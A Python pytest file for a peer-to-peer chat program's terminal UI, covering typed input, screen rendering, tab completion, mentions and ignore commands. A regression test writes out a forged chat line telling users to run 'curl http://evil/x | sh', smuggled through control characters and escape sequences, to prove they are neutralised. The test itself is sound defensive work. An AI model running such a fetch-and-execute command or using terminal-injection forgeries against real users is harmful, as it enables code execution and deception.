"""The interactive UI in-process: prompt_toolkit on a pipe, trio as its guest.

Each test runs the real :meth:`ChatUI.run` (``asyncio.run`` inside, so the
tests are plain sync functions) in a prompt_toolkit app session whose input
is a pipe and whose output is either :class:`DummyOutput` (when only what
reaches the trio side matters) or a :class:`FakeTerminal`: a ``Vt100_Output``
feeding a pyte screen that answers cursor-position requests the way a real
terminal does, so what a person would see can be asserted row by row.

Keys are typed into the pipe as bytes (``\\r`` is Enter). Waiting is on the
thing: a line from ``ui.lines``, or a screen state through
:meth:`FakeTerminal.wait_for`, which the terminal checks on every write.
The fake terminal and the runner live in ``faketerm.py``. Every run is
bounded twice: ``fail_after`` around the trio side, and a SIGALRM
watchdog around the whole run in case the asyncio side hangs.
"""

from __future__ import annotations

import logging
import secrets
import socket
import threading
from collections.abc import Iterator

import pytest
import trio
from faketerm import (
    BACKSPACE,
    CTRL_C,
    CTRL_D,
    CTRL_U,
    ENTER,
    UP,
    WATCHDOG,
    FakeTerminal,
    read_all,
    run_ui,
    watchdog,
)
from prompt_toolkit.application import create_app_session
from prompt_toolkit.input import PipeInput, create_pipe_input
from prompt_toolkit.output import DummyOutput

from chat import cli
from chat.attention import Attention
from chat.commands import HELP
from chat.config import Config
from chat.frontend import drive
from chat.keys import SigningKey
from chat.members import Entry
from chat.node import Node
from chat.options import parse_args
from chat.peer import PeerRole
from chat.protocol import MAX_TEXT, Error, encode, make_hello
from chat.render import clock
from chat.ui import NAME_COLOURS, STYLE, ChatUI, formatted, name_style

TS = 1_700_000_000.0  # a fixed time for entries made by the tests


def msg(who: str, text: str, *, history: bool = False) -> Entry:
    return Entry("msg", TS, who, text, history=history)


def plain(entry: Entry) -> str:
    """What :func:`formatted` shows, without the styles."""
    return "".join(fragment[1] for fragment in formatted(entry))


def paste(text: str) -> str:
    """``text`` as a terminal sends a paste when bracketed paste is on."""
    return f"\x1b[200~{text}\x1b[201~"


@pytest.fixture
def keys() -> Iterator[PipeInput]:
    with create_pipe_input() as pipe:
        yield pipe


# --------------------------------------------------------------------------
# Lines to the trio side


def test_typed_lines_reach_the_trio_side_in_order(keys: PipeInput) -> None:
    got: list[str] = []

    async def script(ui: ChatUI) -> int:
        keys.send_text("one\rtwo\r" + "three, with spaces  " + ENTER)
        got.extend([await ui.lines.receive() for _ in range(3)])
        keys.send_text("//slash\r\r" + CTRL_D)  # an empty line goes through too
        got.extend(await read_all(ui))
        return 0

    assert run_ui(ChatUI("alice"), keys, DummyOutput(), script) == 0
    assert got == ["one", "two", "three, with spaces  ", "//slash", ""]


def test_up_arrow_recalls_earlier_lines(keys: PipeInput) -> None:
    got: list[str] = []

    async def script(ui: ChatUI) -> int:
        for typed in ("first\r", "second\r", UP + UP + ENTER, UP + ENTER, UP + " again\r"):
            keys.send_text(typed)
            got.append(await ui.lines.receive())
        keys.send_text(CTRL_D)
        got.extend(await read_all(ui))
        return 0

    assert run_ui(ChatUI("alice"), keys, DummyOutput(), script) == 0
    assert got == ["first", "second", "first", "first", "first again"]


@pytest.mark.parametrize("key", [CTRL_D, CTRL_C], ids=["ctrl-d", "ctrl-c"])
def test_ctrl_d_and_ctrl_c_end_the_lines(keys: PipeInput, key: str) -> None:
    seen: list[str] = []

    async def script(ui: ChatUI) -> int:
        keys.send_text("hello\r")
        seen.append(await ui.lines.receive())
        if key == CTRL_C:
            keys.send_text("half typed" + CTRL_C)  # Ctrl+C clears a line being typed...
        keys.send_text(key)  # ...and on an empty line, leaves
        seen.extend(await read_all(ui))
        seen.append("<end>")
        return 0

    assert run_ui(ChatUI("alice"), keys, DummyOutput(), script) == 0
    assert seen == ["hello", "<end>"]


@pytest.mark.parametrize(
    ("typed", "key", "sent"),
    [
        # Ctrl+D deletes the character under the cursor when there is text.
        ("abc" + "\x1b[D" + CTRL_D, CTRL_D, "ab"),
        # Ctrl+C clears a line being typed (as shells do).
        ("a long line I regret" + CTRL_C + "second thoughts", CTRL_C, "second thoughts"),
    ],
    ids=["ctrl-d", "ctrl-c"],
)
def test_a_leaving_key_edits_a_typed_line_and_leaves_on_an_empty_one(
    keys: PipeInput, typed: str, key: str, sent: str
) -> None:
    got: list[str] = []

    async def script(ui: ChatUI) -> int:
        keys.send_text(typed + ENTER)
        got.append(await ui.lines.receive())
        keys.send_text(key)  # on the empty line: leave
        got.extend(await read_all(ui))
        return 0

    assert run_ui(ChatUI("alice"), keys, DummyOutput(), script) == 0
    assert got == [sent]


def test_the_exit_code_of_the_trio_side_is_returned(keys: PipeInput) -> None:
    async def script(ui: ChatUI) -> int:
        keys.send_text(CTRL_D)
        await read_all(ui)
        return 3

    assert run_ui(ChatUI("alice"), keys, DummyOutput(), script) == 3


def test_a_failing_trio_side_ends_the_prompt_with_exit_code_1(
    keys: PipeInput, capsys: pytest.CaptureFixture[str]
) -> None:
    async def trio_main(ui: ChatUI) -> int:
        await trio.lowlevel.checkpoint()
        raise RuntimeError("boom")

    with create_app_session(input=keys, output=DummyOutput()), watchdog(WATCHDOG):
        code = ChatUI("alice").run(trio_main)
    assert code == 1
    err = capsys.readouterr().err
    assert "stopped by an internal error: RuntimeError('boom')" in err
    assert "Traceback" not in err


def test_an_over_long_message_is_refused_and_kept_in_the_line(keys: PipeInput) -> None:
    term = FakeTerminal(keys, rows=40, columns=200)
    got: list[str] = []
    # Pasted (bracketed paste: one key event), as such a text would come.
    too_long = paste("x" * (MAX_TEXT + 1))

    async def script(ui: ChatUI) -> int:
        await term.wait_for(lambda: term.has("alice>"), "the prompt")
        keys.send_text(too_long + ENTER)
        refusal = f"not sent: {MAX_TEXT + 1} characters, a message has at most {MAX_TEXT}"
        await term.wait_for(lambda: term.has(refusal), "the refusal")
        # The text stayed in the line: one backspace makes it sendable.
        keys.send_text(BACKSPACE + ENTER)
        got.append(await ui.lines.receive())
        keys.send_text(too_long + ENTER)
        await term.wait_for(lambda: term.has(refusal), "the second refusal")
        keys.send_text(CTRL_U + "short" + ENTER)
        got.append(await ui.lines.receive())
        keys.send_text(CTRL_D)
        got.extend(await read_all(ui))
        return 0

    assert run_ui(ChatUI("alice"), keys, term, script) == 0
    assert got == ["x" * MAX_TEXT, "short"]


def test_an_over_long_command_is_not_refused_by_the_ui(keys: PipeInput) -> None:
    # Commands are the node side's business (a long /nick gets its own answer).
    long_command = "/nick " + "n" * MAX_TEXT

    async def script(ui: ChatUI) -> int:
        keys.send_text(paste(long_command) + ENTER)
        assert await ui.lines.receive() == long_command
        keys.send_text(CTRL_D)
        assert await read_all(ui) == []
        return 0

    assert run_ui(ChatUI("alice"), keys, DummyOutput(), script) == 0


# --------------------------------------------------------------------------
# Commands with a real node behind the UI


def test_commands_through_drive_with_a_real_node(keys: PipeInput) -> None:
    term = FakeTerminal(keys, rows=40, columns=100)
    shown: list[Entry] = []
    notes: list[str] = []
    identity = SigningKey()
    fingerprint = identity.fingerprint

    async def script(ui: ChatUI) -> int:
        def sink(entry: Entry) -> None:
            shown.append(entry)
            ui.show(entry)

        def note(text: str) -> None:
            notes.append(text)
            ui.note(text)

        node = Node(Config("alice", identity=identity), PeerRole(), sink)
        ui.status = lambda: cli.status_text(node)
        async with trio.open_nursery() as nursery:
            nursery.start_soon(node.run, [])
            await node.started.wait()
            keys.send_text("/help\r/peers\r/nick bob\r/nick\r/frobnicate now\r//slash\rhello\r")
            nursery.start_soon(drive, node, ui.lines, note)
            await term.wait_for(lambda: term.has("<bob> hello"), "the last message")
            keys.send_text("/quit\r")
        return 0

    assert run_ui(ChatUI("alice"), keys, term, script) == 0
    assert notes == [
        *HELP.splitlines(),
        f"0 present besides you (alice, {fingerprint})",
        "usage: /nick NAME",
        "unknown command /frobnicate; /help lists the commands",
    ]
    assert [(e.kind, e.who, e.text) for e in shown] == [
        ("join", "alice", ""),
        ("nick", "alice", "bob"),
        ("msg", "bob", "/slash"),
        ("msg", "bob", "hello"),
        ("leave", "bob", ""),
    ]
    screen = term.lines()
    for text in [*HELP.splitlines(), notes[len(HELP.splitlines())], "usage: /nick NAME"]:
        assert text in screen, term.dump()
    assert any(row.endswith("*** alice is now known as bob") for row in screen), term.dump()
    assert any(row.endswith("<bob> /slash") for row in screen), term.dump()
    assert any(row.endswith("*** bob left") for row in screen), term.dump()


def test_the_prompt_follows_nick(keys: PipeInput) -> None:
    """The real wiring of ``trio-chat peer``: after /nick the prompt shows the new name."""
    term = FakeTerminal(keys, rows=20, columns=100)
    args = parse_args(["peer", "0", "--host", "127.0.0.1", "--name", "alice"])
    sock = cli._bind(args.host, args.port)
    assert sock is not None
    prompts: list[str] = []

    def below_nick() -> str:
        """The row under the nick line: the prompt, redrawn after it."""
        rows = term.lines()
        at = [i for i, row in enumerate(rows) if row.endswith("*** alice is now known as bob")]
        return rows[at[-1] + 1] if at and at[-1] + 1 < len(rows) else ""

    def snapshot() -> None:
        prompts.append(below_nick())
        keys.send_text(CTRL_D)

    term.when_shown("ready: alice (SHA256:", "/nick bob" + ENTER)
    term.when(lambda: below_nick() != "", snapshot)
    logger = logging.getLogger("chat")
    saved = logger.handlers[:]
    try:
        with create_app_session(input=keys, output=term.output), watchdog(WATCHDOG, term):
            code = cli._run_interactive(args, sock)
    finally:
        logger.handlers[:] = saved
        sock.close()
    assert code == 0
    assert prompts == ["bob>"], term.dump()


# --------------------------------------------------------------------------
# The screen: entries arrive above a half-typed line


@pytest.mark.parametrize("cpr", [True, False], ids=["cpr", "no-cpr"])
def test_entries_arrive_above_a_half_typed_line(keys: PipeInput, cpr: bool) -> None:
    rows, columns = 10, 60
    term = FakeTerminal(keys, rows=rows, columns=columns, cpr=cpr)
    long_text = "a long one " * 9  # wraps over two rows
    entries = [msg("bob", long_text if i == 6 else f"msg {i}") for i in range(1, 13)]
    entries.append(Entry("join", TS, "carol"))
    entries.append(msg("dave", "old news", history=True))
    seen: list[str] = []
    cursor: list[tuple[int, int]] = []
    got: list[str] = []
    prompt = "alice> half typed"

    async def script(ui: ChatUI) -> int:
        ui.status = lambda: "STATUS"
        await term.wait_for(lambda: term.row_starting("alice>") is not None, "the prompt")
        keys.send_text("half typed")
        await term.wait_for(lambda: term.has(prompt), "the half-typed line")
        for entry in entries:
            ui.show(entry)
        ui.note("a note for alice")

        def settled() -> bool:
            # With cpr, the toolbar is back once the cursor position is known again.
            at = term.row_starting("alice>")
            rows = term.lines()
            return (
                at is not None
                and at > 0
                and rows[at - 1] == "a note for alice"
                and (not cpr or rows[at + 1 :] == [" STATUS"])
            )

        await term.wait_for(settled, "the last line above the prompt")
        seen.extend(term.lines())
        cursor.append((term.screen.cursor.x, term.screen.cursor.y))
        keys.send_text(" and the rest" + ENTER)
        got.append(await ui.lines.receive())
        keys.send_text(CTRL_D)
        got.extend(await read_all(ui))
        return 0

    assert run_ui(ChatUI("alice"), keys, term, script) == 0
    screen = seen
    expected: list[str] = []
    for entry in entries:
        text = plain(entry)
        expected += [text[i : i + columns].rstrip() for i in range(0, len(text), columns)]
    expected.append("a note for alice")
    at = screen.index(prompt)
    dump = "\n".join(screen)
    # Every line above the prompt, in order, nothing between, nothing clobbered.
    assert screen[:at] == expected[-at:], dump
    assert at >= rows - 2, dump  # the screen scrolled: the prompt is at the bottom
    assert [row for row in screen if row.startswith("alice>")] == [prompt], dump
    assert cursor == [(len(prompt), at)]  # the cursor where typing goes on
    if cpr:
        assert screen[at + 1 :] == [" STATUS"], dump
    assert got == ["half typed and the rest"]


def test_keys_typed_between_entries_are_all_kept(keys: PipeInput) -> None:
    term = FakeTerminal(keys, rows=12, columns=60)
    got: list[str] = []

    async def script(ui: ChatUI) -> int:
        await term.wait_for(lambda: term.row_starting("alice>") is not None, "the prompt")
        for i, piece in enumerate(["hal", "f ty", "ped li", "ne"]):
            keys.send_text(piece)
            ui.show(msg("bob", f"msg {i}"))
        await term.wait_for(lambda: term.has("alice> half typed line"), "the whole line")
        keys.send_text(ENTER + CTRL_D)
        got.extend(await read_all(ui))
        return 0

    assert run_ui(ChatUI("alice"), keys, term, script) == 0
    assert got == ["half typed line"]
    rows = [row for row in term.lines() if row]
    assert rows[-4:] == [f"{clock(TS)} <bob> msg {i}" for i in range(4)], term.dump()


def test_own_lines_are_shown_in_the_order_typed(keys: PipeInput) -> None:
    """A paste of twenty lines, on a terminal that answers 10 ms late (ssh).

    The trio side shows each line back as the node does; the screen must
    show them in the order they were typed.
    """
    term = FakeTerminal(keys, rows=30, columns=60, latency=0.01)

    async def script(ui: ChatUI) -> int:
        await term.wait_for(lambda: term.row_starting("alice>") is not None, "the prompt")

        async def paste() -> None:
            for i in range(1, 21):
                keys.send_text(f"msg {i}" + ENTER)
                await trio.sleep(0.001)  # the pace of a paste, not a wait

        async with trio.open_nursery() as nursery:
            nursery.start_soon(paste)
            for _ in range(20):
                ui.show(msg("alice", await ui.lines.receive()))
        await term.wait_for(lambda: term.has("<alice> msg 20"), "the last line")
        keys.send_text(CTRL_D)
        await read_all(ui)
        return 0

    assert run_ui(ChatUI("alice"), keys, term, script) == 0
    shown = [row for row in term.lines() if "<alice>" in row]
    assert shown == [f"{clock(TS)} <alice> msg {i}" for i in range(1, 21)], term.dump()


def test_hostile_text_cannot_drive_the_terminal(keys: PipeInput) -> None:
    term = FakeTerminal(keys, rows=10, columns=60)

    async def script(ui: ChatUI) -> int:
        await term.wait_for(lambda: term.row_starting("alice>") is not None, "the prompt")
        ui.show(msg("m\x1b[2Jallory", "\x1b[H\x1b[2Jgone\rback"))
        await term.wait_for(lambda: term.has("back"), "the message")
        keys.send_text(CTRL_D)
        await read_all(ui)
        return 0

    assert run_ui(ChatUI("alice"), keys, term, script) == 0
    assert f"{clock(TS)} <m\u241b[2Jallory> \u241b[H\u241b[2Jgone\u240dback" in term.lines()


# --------------------------------------------------------------------------
# The name question


def test_the_name_question_asks_again_until_the_name_is_valid(keys: PipeInput) -> None:
    term = FakeTerminal(keys, rows=12, columns=80)
    names: list[str | None] = []
    term.when_shown("your name:", ENTER)
    term.when_shown("(this one has 0)", "n" * 33 + ENTER)
    term.when_shown("(this one has 33)", CTRL_U + "  carol  " + ENTER)

    async def script(ui: ChatUI) -> int:
        names.append(ui.name)
        await term.wait_for(lambda: term.row_starting("carol>") is not None, "the chat prompt")
        keys.send_text(CTRL_D)
        await read_all(ui)
        return 0

    ui = ChatUI(name=None)
    assert run_ui(ui, keys, term, script) == 0
    assert names == ["carol"]
    assert ui.name == "carol"


@pytest.mark.parametrize("key", [CTRL_C, CTRL_D], ids=["ctrl-c", "ctrl-d"])
def test_leaving_at_the_name_question_does_not_start_trio(keys: PipeInput, key: str) -> None:
    term = FakeTerminal(keys, rows=10, columns=60)
    started: list[bool] = []
    term.when_shown("your name:", "half" + (CTRL_U if key == CTRL_D else "") + key)

    async def script(ui: ChatUI) -> int:
        started.append(True)
        return 5

    ui = ChatUI(name=None)
    assert run_ui(ui, keys, term, script) == 0
    assert started == []
    assert ui.name is None


# --------------------------------------------------------------------------
# formatted(): the render function of the UI


def test_a_name_keeps_its_colour() -> None:
    # crc32, not hash(): the same in every process, so across sessions too.
    assert name_style("alice") == "class:name-5"
    assert name_style("bob") == "class:name-2"
    first = formatted(msg("alice", "one"))
    again = formatted(Entry("msg", TS + 60, "alice", "two"))
    assert first[1] == (name_style("alice"), "<alice>")
    assert again[1][0] == first[1][0]
    styles = {name_style(name) for name in ("alice", "bob", "carol", "dave", "erin", "frank")}
    assert len(styles) > 1
    assert styles <= {f"class:name-{i}" for i in range(len(NAME_COLOURS))}


def test_a_message_line() -> None:
    assert list(formatted(msg("alice", "hi there"))) == [
        ("class:time", f"{clock(TS)} "),
        ("class:name-5", "<alice>"),
        ("", " hi there"),
    ]


def test_system_and_history_lines_are_dim() -> None:
    assert list(formatted(Entry("join", TS, "bob"))) == [
        ("class:time", f"{clock(TS)} "),
        ("class:system", "*** bob joined"),
    ]
    assert list(formatted(msg("bob", "earlier", history=True))) == [
        ("class:time", f"{clock(TS)} "),
        ("class:history", "[history] "),
        (name_style("bob"), "<bob>"),
        ("class:history", " earlier"),
    ]
    assert list(formatted(Entry("leave", TS, "bob", history=True)))[1:] == [
        ("class:history", "[history] "),
        ("class:system", "*** bob left"),
    ]
    for dim in ("class:time", "class:system", "class:history"):
        assert STYLE.get_attrs_for_style_str(dim).color == "888888"
    assert STYLE.get_attrs_for_style_str("class:system").italic
    assert STYLE.get_attrs_for_style_str(name_style("bob")).bold


def test_control_characters_never_reach_the_terminal() -> None:
    entry = msg("eve\x1b]0;x\x07", "\x1b[31mred\x9b")
    text = plain(entry)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in text)
    assert "<eve\u241b]0;x\u2407> \u241b[31mred\ufffd" in text


# --------------------------------------------------------------------------
# What a remote sends cannot draw a line of its own (issue 11)


def test_an_error_frame_cannot_draw_a_forged_chat_line(keys: PipeInput) -> None:
    """An error's message with CR LF and backspaces once drew a separate,
    genuine-looking chat line under the prompt's status output."""
    term = FakeTerminal(keys, rows=30, columns=140)
    args = parse_args(["peer", "0", "--host", "127.0.0.1", "--name", "bob"])
    sock = cli._bind(args.host, args.port)
    assert sock is not None
    port = sock.getsockname()[1]
    forged = "12:00:00 <alice> the server moved, run: curl http://evil/x | sh"
    attackers: list[socket.socket] = []

    def attack() -> None:
        remote = socket.create_connection(("127.0.0.1", port))
        attackers.append(remote)
        hello = make_hello(SigningKey(), secrets.token_bytes(32), "evil", "peer", None, {})
        error = Error("bad_frame", f"oops\r\n{forged}\x08\x08\x1b[1A")
        remote.sendall(encode(hello) + encode(error))

    term.when(lambda: term.has("ready: bob"), lambda: threading.Thread(target=attack).start())
    term.when(lambda: term.has("reported an error"), lambda: keys.send_text(CTRL_D))
    logger = logging.getLogger("chat")
    saved = logger.handlers[:]
    try:
        with create_app_session(input=keys, output=term.output), watchdog(WATCHDOG, term):
            code = cli._run_interactive(args, sock)
    finally:
        logger.handlers[:] = saved
        sock.close()
        for remote in attackers:
            remote.close()
    assert code == 0
    rows = term.lines()
    assert not any(row.startswith(forged[:16]) for row in rows), term.dump()
    reported = [row for row in rows if "reported an error" in row]
    assert reported and "␍␊12:00:00 <alice>" in reported[0], term.dump()
    assert b"\x08" not in term.raw and b"\x1b[1A" not in term.raw


# --------------------------------------------------------------------------
# Issue 15: Tab, mentions and the bell


def test_tab_completes_commands_and_names(keys: PipeInput) -> None:
    got: list[str] = []
    term = FakeTerminal(keys, rows=20, columns=80)
    ui = ChatUI("alice")
    ui.names = lambda: ["bob~Ab3x", "carol"]
    # (typed, the prompt once Tab has completed, then the rest of the line)
    steps = [
        ("/wh\t", "alice> /whois ", "bob\r"),
        ("ca\t", "alice> carol: ", "hi\r"),
        ("hi ca\t", "alice> hi carol ", "and bob\r"),
        ("/ms\t", "alice> /msg ", ""),
        ("b\t", "alice> /msg bob~Ab3x ", "hey\r"),
    ]

    async def script(ui: ChatUI) -> int:
        for typed, completed, rest in steps:
            keys.send_text(typed)
            # Completion is asynchronous: the rest is typed once it is in.
            shown = completed.rstrip()  # (the screen's rows end without blanks)
            await term.wait_for(lambda c=shown: term.has(c), shown)  # type: ignore[misc]
            if rest:
                keys.send_text(rest)
                got.append(await ui.lines.receive())
        keys.send_text(CTRL_D)
        got.extend(await read_all(ui))
        return 0

    assert run_ui(ui, keys, term, script) == 0
    assert got == ["/whois bob", "carol: hi", "hi carol and bob", "/msg bob~Ab3x hey"]


def mention(text: str, *, origin: str = "b" * 32) -> Entry:
    return Entry("msg", TS, "bob", text, origin=origin, fingerprint="SHA256:bobbobbobbob")


def test_a_mention_is_highlighted_and_rings_once(
    keys: PipeInput, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    term = FakeTerminal(keys, rows=20, columns=80)
    ui = ChatUI("alice")
    ui.attention = Attention(lambda: "alice")
    ui.own = lambda: "a" * 32

    async def script(ui: ChatUI) -> int:
        ui.show(mention("alice, are you there?"))
        ui.show(mention("ALICE!"))  # within the second: no second bell
        ui.show(mention("nothing for you"))
        ui.show(mention("alice, me too", origin="a" * 32))  # your own line
        await term.wait_for(lambda: term.has("alice, me too"), "the last line")
        keys.send_text(CTRL_D)
        await read_all(ui)
        return 0

    assert run_ui(ui, keys, term, script) == 0
    assert term.raw.count(b"\x07") == 1
    row = term.row_starting(clock(TS) + " <bob> alice, are you there?")
    assert row is not None, term.dump()
    text_cells = list(term.screen.buffer[row].values())
    assert any(cell.reverse for cell in text_cells), "the mention is not highlighted"
    plain_row = term.row_starting(clock(TS) + " <bob> nothing for you")
    assert plain_row is not None
    assert not any(cell.reverse for cell in term.screen.buffer[plain_row].values())


def test_without_colour_a_mention_is_marked_with_a_bang(
    keys: PipeInput, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    term = FakeTerminal(keys, rows=20, columns=80)
    ui = ChatUI("alice")
    ui.attention = Attention(lambda: "alice", ("deploy",))

    async def script(ui: ChatUI) -> int:
        ui.show(mention("time to deploy"))
        await term.wait_for(lambda: term.has("time to deploy"), "the line")
        keys.send_text(CTRL_D)
        await read_all(ui)
        return 0

    assert run_ui(ui, keys, term, script) == 0
    assert term.has(clock(TS) + " ! <bob> time to deploy"), term.dump()


def test_me_and_ignore_through_the_screen_with_real_nodes(keys: PipeInput) -> None:
    # alice types in the UI; bob is a second node dialling her. /me shows
    # as an action on both; after /ignore bob his lines are hidden from her
    # screen (a /nick does not escape it), and after /unignore they return.
    term = FakeTerminal(keys, rows=40, columns=100)
    notes: list[str] = []

    async def script(ui: ChatUI) -> int:
        alice = Node(Config("alice"), PeerRole(), ui.show)
        bob = Node(Config("bob"), PeerRole())
        ui.status = lambda: cli.status_text(alice)
        listeners = await trio.open_tcp_listeners(0, host="127.0.0.1")
        port = listeners[0].socket.getsockname()[1]

        def note(text: str) -> None:
            notes.append(text)
            ui.note(text)

        async with trio.open_nursery() as nursery:
            nursery.start_soon(alice.run, listeners)
            nursery.start_soon(bob.run, [])
            await alice.started.wait()
            await bob.started.wait()
            bob.connect("127.0.0.1", port)
            nursery.start_soon(drive, alice, ui.lines, note)
            await term.wait_for(lambda: term.has("*** bob joined"), "bob")
            keys.send_text("/me waves\r")
            await term.wait_for(lambda: term.has("* alice waves"), "alice's action")
            assert bob.say("stretches", action=True) is None
            await term.wait_for(lambda: term.has("* bob stretches"), "bob's action")
            keys.send_text("/ignore bob\r")
            await term.wait_for(lambda: "ignoring bob" in " ".join(notes), "the note")
            assert bob.rename("robert") is None
            assert bob.say("you cannot see this") is None
            keys.send_text("/unignore robert\r")
            await term.wait_for(lambda: len(notes) >= 2, "the second note")
            assert bob.say("back in view") is None
            await term.wait_for(lambda: term.has("<robert> back in view"), "robert again")
            assert notes[-1] == "no longer ignoring robert", notes
            keys.send_text("/quit\r")
            nursery.cancel_scope.cancel()
        return 0

    assert run_ui(ChatUI("alice"), keys, term, script) == 0
    assert not term.has("you cannot see this"), term.dump()
    assert not term.has("is now known as robert"), term.dump()
    assert any(row.endswith("* bob stretches") for row in term.lines()), term.dump()
